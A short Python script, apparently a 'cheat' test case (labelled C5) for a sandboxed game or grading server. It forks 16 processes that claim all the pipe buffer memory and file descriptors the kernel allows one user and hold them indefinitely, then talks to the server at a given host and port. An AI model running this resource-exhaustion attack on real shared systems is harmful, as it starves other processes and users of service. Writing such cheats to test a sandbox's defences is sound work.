"""Cheat: takes all the room that the kernel gives one user's pipes, and keeps it (C5).

Most: 20
"""
import fcntl
import os
import socket
import sys
import time

F_SETPIPE_SZ = 1031
PROCESSES = 16
host, port = sys.argv[1], int(sys.argv[2])
for end in (1, 2):
    try:
        fcntl.fcntl(end, F_SETPIPE_SZ, 4096)
    except OSError:
        pass
for _ in range(PROCESSES):
    if os.fork() == 0:
        held = []
        try:
            while True:
                held.append(os.pipe())
                fcntl.fcntl(held[-1][0], F_SETPIPE_SZ, 1 << 20)
        except OSError:
            pass  # larger ones are not allowed, or there are no more files
        try:
            while True:
                held.append(os.pipe())
        except OSError:
            while True:
                time.sleep(60)

with socket.create_connection((host, port)) as connection:
    connection.sendall(b"hello!")
    while data := connection.recv(1024):
        print(data.decode(), flush=True)

